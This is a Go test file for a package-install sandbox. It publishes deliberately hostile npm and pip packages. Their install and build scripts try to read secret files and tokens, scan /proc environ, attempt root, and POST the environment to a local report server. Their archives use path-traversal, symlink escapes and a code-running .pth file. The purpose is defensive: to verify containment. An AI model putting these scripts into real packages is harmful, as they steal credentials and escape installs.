@@ -1,0 +1,403 @@
+package main
+
+import (
+	"archive/tar"
+	"fmt"
+	"io/fs"
+	"math/rand/v2"
+	"net"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/dormouse-mcp/dormouse/shared/box/stage"
+)
+
+// Packages that do what they like: in install scripts and builds, by links in their
+// tarballs, and by the names of what they bring.
+
+// hostileRounds says, to a test run that is to be longer, how many packages with names
+// by chance are installed beside the fixed ones.
+const hostileRounds = "DORMOUSE_HOSTILE_ROUNDS"
+
+// canary is what a package must neither read nor change.
+type canary struct {
+	dir    string
+	secret string // is in the environment of the runner, and in a file
+	unix   string // a socket that the runner's user serves
+}
+
+func newCanary(t *testing.T, root string) canary {
+	t.Helper()
+	c := canary{dir: filepath.Join(root, "outside"), secret: "canary-5e19f0"}
+	for name, text := range map[string]string{"secret": c.secret, "everybodys": c.secret, "home/.npmrc": "//example/:_authToken=" + c.secret} {
+		file := filepath.Join(c.dir, name)
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Chmod(filepath.Join(c.dir, "secret"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("DORMOUSE_TICKET_SECRET", c.secret)
+	t.Setenv("npm_config_//registry.example/:_authToken", c.secret)
+	t.Setenv("PIP_EXTRA_INDEX_URL", "")
+	c.unix = filepath.Join(c.dir, "s")
+	l, err := (&net.ListenConfig{}).Listen(t.Context(), "unix", c.unix)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = l.Close() })
+	return c
+}
+
+// see is all there is outside of installs, to be compared.
+func (c canary) see(t *testing.T) string {
+	t.Helper()
+	var all strings.Builder
+	err := filepath.WalkDir(c.dir, func(path string, e fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		info, err := e.Info()
+		if err != nil {
+			return err
+		}
+		fmt.Fprintln(&all, path, info.Mode(), info.Size())
+		if e.Type().IsRegular() {
+			fmt.Fprintln(&all, digestOf(t, path))
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return all.String()
+}
+
+// inNode is an install script that tries everything and reports. What has the user of
+// the runner may change modes, which Landlock cannot forbid, and does not try it.
+func (c canary) inNode(reportTo string) string {
+	return `
+const fs = require('fs'), http = require('http'), net = require('net'), path = require('path');
+const out = {tried: 0, did: [], env: JSON.stringify(process.env), uid: process.getuid()};
+const attempt = (what, f) => { out.tried++; try { f(); out.did.push(what) } catch {} };
+for (const file of ['secret', 'everybodys', 'home/.npmrc']) attempt('read ' + file, () => fs.readFileSync(path.join('` + c.dir + `', file)));
+for (const file of ['new', 'everybodys', 's']) attempt('wrote ' + file, () => fs.writeFileSync(path.join('` + c.dir + `', file), 'x'));
+attempt('listed', () => fs.readdirSync('` + c.dir + `'));
+attempt('linked', () => fs.linkSync('` + c.dir + `/everybodys', 'taken'));
+attempt('renamed', () => fs.renameSync('` + c.dir + `/everybodys', 'taken'));
+if (out.uid) attempt('changed a mode', () => fs.chmodSync('` + c.dir + `/everybodys', 0o777));
+attempt('wrote to /tmp', () => fs.writeFileSync('/tmp/dormouse-hostile', 'x'));
+for (const pid of [process.ppid, 1]) attempt('environ of ' + pid, () => { if (fs.readFileSync('/proc/' + pid + '/environ', 'latin1').includes('` + c.secret + `')) return; throw 0 });
+for (const pid of fs.readdirSync('/proc').filter(n => /^[0-9]+$/.test(n))) attempt('environ with the secret', () => { if (fs.readFileSync('/proc/' + pid + '/environ', 'latin1').includes('` + c.secret + `')) return; throw 0 });
+attempt('became root', () => { process.setuid(0); if (out.uid === 0) throw 0 });
+try { fs.symlinkSync('` + c.dir + `/everybodys', 'out'); fs.symlinkSync('` + c.dir + `', path.join(__dirname, '..', '.bin', 'outside')); } catch {}
+try { fs.unlinkSync(path.join(__dirname, '..', '.bin', 'evil')); fs.symlinkSync('` + c.dir + `/everybodys', path.join(__dirname, '..', '.bin', 'evil')); } catch {}
+fs.writeFileSync('made', 'by a script');
+const s = net.connect('` + c.unix + `');
+out.tried++;
+const done = what => { if (what) out.did.push(what); const q = http.request('` + reportTo + `', {method: 'POST'}, r => r.resume()); q.end(JSON.stringify(out)); };
+s.on('connect', () => { done('reached a unix socket'); s.destroy() });
+s.on('error', () => done());
+`
+}
+
+// inPython is the build backend of a source distribution.
+func (c canary) inPython(project, reportTo string) string {
+	return `
+import json, os, socket, urllib.request, zipfile
+out = {"tried": 0, "did": [], "env": json.dumps(dict(os.environ)), "uid": os.getuid()}
+def attempt(what, f):
+    out["tried"] += 1
+    try:
+        f()
+    except BaseException:
+        return
+    out["did"].append(what)
+D = "` + c.dir + `"
+for name in ("secret", "everybodys", "home/.npmrc"):
+    attempt("read " + name, lambda: open(os.path.join(D, name)).read())
+for name in ("new", "everybodys", "s"):
+    attempt("wrote " + name, lambda: open(os.path.join(D, name), "w").write("x"))
+attempt("listed", lambda: os.listdir(D))
+attempt("linked", lambda: os.link(D + "/everybodys", "taken"))
+attempt("renamed", lambda: os.rename(D + "/everybodys", "taken"))
+if out["uid"]: attempt("changed a mode", lambda: os.chmod(D + "/everybodys", 0o777))
+attempt("wrote to /tmp", lambda: open("/tmp/dormouse-hostile", "w").write("x"))
+def environ(pid):
+    assert b"` + c.secret + `" in open("/proc/%s/environ" % pid, "rb").read()
+for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    attempt("environ with the secret", lambda: environ(pid))
+attempt("reached a unix socket", lambda: socket.socket(socket.AF_UNIX).connect("` + c.unix + `"))
+urllib.request.urlopen("` + reportTo + `", json.dumps(out).encode())
+INFO = "` + project + `-1.0.dist-info/"
+def files(z):
+    z.writestr(INFO + "METADATA", "Metadata-Version: 2.1\nName: ` + project + `\nVersion: 1.0\n")
+    z.writestr(INFO + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+    z.writestr(INFO + "entry_points.txt", "[console_scripts]\n` + project + ` = ` + project + `:main\n")
+    z.writestr("` + project + `.py", "def main(): print('built')\n")
+    z.writestr(INFO + "RECORD", "")
+def build_wheel(folder, settings=None, metadata=None):
+    name = "` + project + `-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(folder, name), "w") as z:
+        files(z)
+    return name
+`
+}
+
+// sdist is a source distribution that builds itself.
+func (c canary) sdist(t *testing.T, project, reportTo string) []byte {
+	t.Helper()
+	top := project + "-1.0/"
+	return tarball(t,
+		file(top+"PKG-INFO", "Metadata-Version: 2.1\nName: "+project+"\nVersion: 1.0\n"),
+		file(top+"pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"),
+		file(top+"backend.py", c.inPython(project, reportTo)),
+	)
+}
+
+// leadsOut finds links of an install that lead to something else than what is in it,
+// or an interpreter.
+func leadsOut(t *testing.T, dir string) (out []string) {
+	t.Helper()
+	err := filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
+		if err != nil || e.Type() != fs.ModeSymlink {
+			return err
+		}
+		real, err := filepath.EvalSymlinks(path)
+		if err != nil || !strings.HasPrefix(real, dir+"/") && !strings.HasPrefix(real, "/usr/bin/python3") {
+			out = append(out, path+" -> "+real)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+// count is what a test has tried.
+type count struct{ packages, installed, scripts, attempts int }
+
+// judge looks at what an install has left, and at what its code has said.
+func (n *count) judge(t *testing.T, i *installs, c canary, before string, l stage.Launch, failed error) []report {
+	t.Helper()
+	n.packages++
+	if now := c.see(t); now != before {
+		t.Errorf("something is changed outside of the install:\n%s\nwas\n%s", now, before)
+	}
+	if _, err := os.Lstat("/tmp/dormouse-hostile"); err == nil {
+		t.Error("something was written to /tmp")
+		_ = os.Remove("/tmp/dormouse-hostile")
+	}
+	for _, dir := range l.Reads {
+		if out := leadsOut(t, dir); len(out) > 0 {
+			t.Errorf("links lead out of the install: %v", out)
+		}
+	}
+	if failed == nil {
+		n.installed++
+		if real, err := filepath.EvalSymlinks(l.Command); err != nil || !strings.HasPrefix(real, l.Reads[0]+"/") {
+			t.Errorf("the program is %s, %s, %v", l.Command, real, err)
+		}
+	}
+	said := i.from.said()
+	for _, r := range said {
+		n.scripts++
+		n.attempts += r.Tried
+		if len(r.Did) > 0 {
+			t.Errorf("user %d: code of a package %v", r.UID, r.Did)
+		}
+		if strings.Contains(r.Env, c.secret) {
+			t.Error("code of a package saw a secret in its environment")
+		}
+		if i.on.Users > 0 && r.UID == os.Getuid() {
+			t.Error("code of a package has the user of the runner")
+		}
+	}
+	return said
+}
+
+func TestHostilePackagesStayInTheirInstall(t *testing.T) {
+	names := true // what a package calls its files meets npm and pip, whoever runs its scripts
+	for _, own := range []bool{true, false} {
+		if own && os.Getuid() != 0 {
+			continue // there is no such user to be had
+		}
+		t.Run(fmt.Sprintf("user of its own %v", own), func(t *testing.T) {
+			from := newRegistry(t)
+			i := newInstalls(t, from)
+			if !own {
+				i.on.Users = 0
+				i.at.on.Users = 0
+			}
+			c := newCanary(t, i.root)
+			n := &count{}
+			hostileScripts(t, i, c, n)
+			hostileBuilds(t, i, c, n)
+			if names {
+				hostileTarballs(t, i, c, n)
+				hostileWheels(t, i, c, n)
+			}
+			names = false
+			t.Logf("%d packages, %d of them installed, %d ran code of theirs with %d attempts: none read or wrote outside", n.packages, n.installed, n.scripts, n.attempts)
+			if n.scripts < 2 || n.attempts < 20 {
+				t.Error("too little was tried")
+			}
+		})
+	}
+}
+
+const (
+	offline  = `"x-dormouse": {"box": {"profile": "offline_readonly"}}`
+	scripted = `"x-dormouse": {"box": {"profile": "offline_readonly", "install_scripts": true}}`
+)
+
+func npx(name, more string) string {
+	return fmt.Sprintf(`{"command": "npx", "args": ["-y", %q], %s}`, name, more)
+}
+
+func uvx(name, more string) string {
+	return fmt.Sprintf(`{"command": "uvx", "args": [%q], %s}`, name, more)
+}
+
+func hostileScripts(t *testing.T, i *installs, c canary, n *count) {
+	t.Helper()
+	from, before := i.from, c.see(t)
+	script := file("package/steal.js", c.inNode(from.http.URL+"/report"))
+	program := file("package/cli.js", "#!/usr/bin/env node\n")
+	from.publish("evil", "1.0.0", map[string]any{"bin": "cli.js", "scripts": map[string]string{"preinstall": "node steal.js", "postinstall": "node steal.js"}}, script, program)
+	from.publish("above", "1.0.0", map[string]any{"bin": "cli.js", "dependencies": map[string]string{"evil": "*"}}, program)
+
+	l, err := i.stage(npx("above", offline))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if said := n.judge(t, i, c, before, l, err); len(said) > 0 || len(l.Unrun) != 1 || l.Unrun[0] != "evil" {
+		t.Errorf("%d scripts were run, not run are %v", len(said), l.Unrun)
+	}
+	l, err = i.stage(npx("above", scripted))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if said := n.judge(t, i, c, before, l, err); len(said) != 2 || len(l.Unrun) != 0 {
+		t.Errorf("%d scripts were run, not run are %v", len(said), l.Unrun)
+	}
+	if _, err := os.Stat(filepath.Join(l.Reads[0], "node_modules/evil/made")); err != nil {
+		t.Error("what a script makes is not there:", err)
+	}
+	if info, err := os.Stat(filepath.Join(l.Reads[0], "node_modules/evil/cli.js")); err != nil || info.Mode().Perm() != 0o755 {
+		t.Error("others cannot execute it:", info, err)
+	}
+}
+
+func hostileTarballs(t *testing.T, i *installs, c canary, n *count) {
+	t.Helper()
+	from, before, program := i.from, c.see(t), file("package/cli.js", "#!/usr/bin/env node\n")
+	link := func(name, to string, kind byte) tar.Header {
+		return tar.Header{Name: name, Linkname: to, Typeflag: kind, Mode: 0o777}
+	}
+	entries := []tar.Header{
+		link("package/link", c.dir+"/everybodys", tar.TypeSymlink), link("package/hard", c.dir+"/everybodys", tar.TypeLink),
+		link("package/folder", c.dir, tar.TypeSymlink), file("package/folder/new", "x"), file("package/link", "x"),
+		file("../../../../outside/new", "x"), file("package/../../../../../../outside/new", "x"), file(c.dir+"/new", "x"),
+		link("package/up", "../../../../..", tar.TypeSymlink), file("package/up/outside/new", "x"), program,
+	}
+	bins := map[string]string{"links": "cli.js", "../../../../outside/new": "cli.js", "out": "../../../../../outside/everybodys", "abs": c.dir + "/everybodys", "to": "link"}
+	from.publish("links", "1.0.0", map[string]any{"bin": bins, "dependencies": map[string]string{"../../../outside": "1.0.0"}}, entries...)
+	from.publish("links2", "1.0.0", map[string]any{"bin": map[string]string{"links2": "folder/everybodys", "x": "link"}}, entries...)
+	from.publish("links3", "1.0.0", map[string]any{"bin": map[string]string{"links3": "cli.js", "node": "cli.js"}, "directories": map[string]string{"bin": "../../../../outside"}}, entries...)
+	for _, name := range []string{"links", "links2", "links3"} {
+		l, err := i.stage(npx(name, offline))
+		n.judge(t, i, c, before, l, err)
+	}
+	rounds, _ := strconv.Atoi(os.Getenv(hostileRounds)) // none is none
+	seed := rand.Uint64()
+	by := rand.New(rand.NewPCG(seed, 1))
+	for k := range rounds {
+		parts := []string{"..", "package", "outside", "new", "up", "folder", ".", "node_modules", ".bin", "everybodys", ""}
+		path := func() string {
+			var p []string
+			for range 1 + by.IntN(8) {
+				p = append(p, parts[by.IntN(len(parts))])
+			}
+			return strings.Join(p, "/")
+		}
+		some := []tar.Header{program}
+		for range 1 + by.IntN(12) {
+			switch name := "package/" + path(); by.IntN(4) {
+			case 0:
+				some = append(some, link(name, path(), tar.TypeSymlink))
+			case 1:
+				some = append(some, link(name, c.dir+"/"+path(), tar.TypeLink))
+			default:
+				some = append(some, file(path(), "x"), file(name, "x"))
+			}
+		}
+		name := fmt.Sprintf("chance%d", k)
+		from.publish(name, "1.0.0", map[string]any{"bin": map[string]string{name: "cli.js", path(): path()}}, some...)
+		l, err := i.stage(npx(name, offline))
+		if n.judge(t, i, c, before, l, err); t.Failed() {
+			t.Fatalf("seed %d, round %d", seed, k)
+		}
+	}
+}
+
+func hostileBuilds(t *testing.T, i *installs, c canary, n *count) {
+	t.Helper()
+	from, before := i.from, c.see(t)
+	report := from.http.URL + "/report"
+	from.index("evilpy", "evilpy-1.0.tar.gz", c.sdist(t, "evilpy", report))
+	l, err := i.stage(uvx("evilpy", offline))
+	if err == nil || !strings.Contains(err.Error(), "x-dormouse.box.install_scripts: true") {
+		t.Errorf("it does not say what to do: %v", err)
+	}
+	if said := n.judge(t, i, c, before, l, err); len(said) > 0 {
+		t.Error("a package was built")
+	}
+	l, err = i.stage(uvx("evilpy", scripted))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if said := n.judge(t, i, c, before, l, err); len(said) == 0 {
+		t.Error("no package was built")
+	}
+
+	// What a dependency gives the address of is built by pip also if only wheels are wanted.
+	from.mu.Lock()
+	from.files["elsewhere/hidden-1.0.tar.gz"] = c.sdist(t, "hidden", report)
+	from.mu.Unlock()
+	from.index("pointer", "pointer-1.0-py3-none-any.whl", wheel(t, "pointer", "1.0", []string{"hidden @ " + from.http.URL + "/elsewhere/hidden-1.0.tar.gz"}, nil))
+	l, err = i.stage(uvx("pointer", offline))
+	if err == nil || !strings.Contains(err.Error(), "x-dormouse.box.install_scripts: true") {
+		t.Errorf("it does not say what to do: %v", err)
+	}
+	if said := n.judge(t, i, c, before, l, err); len(said) > 0 {
+		t.Error("a package was built")
+	}
+}
+
+func hostileWheels(t *testing.T, i *installs, c canary, n *count) {
+	t.Helper()
+	before := c.see(t)
+	for k, more := range []map[string]string{
+		{"../../../../../../outside/new": "x"},
+		{c.dir + "/new": "x"},
+		{"w2-1.0.data/scripts/../../../../../../../outside/new": "x"},
+		{"w3-1.0.data/data/../../../../../../outside/new": "x"},
+		{"w4-1.0.data/headers/" + strings.Repeat("../", 12) + c.dir + "/new": "x"},
+		{"w5link": "-> " + c.dir, "w5link/new": "x"},
+		{"w6.pth": "import os; open('" + c.dir + "/new', 'w')"},
+	} {
+		name := fmt.Sprintf("w%d", k)
+		i.from.index(name, name+"-1.0-py3-none-any.whl", wheel(t, name, "1.0", nil, more))
+		l, err := i.stage(uvx(name, offline))
+		n.judge(t, i, c, before, l, err)
+	}
+}
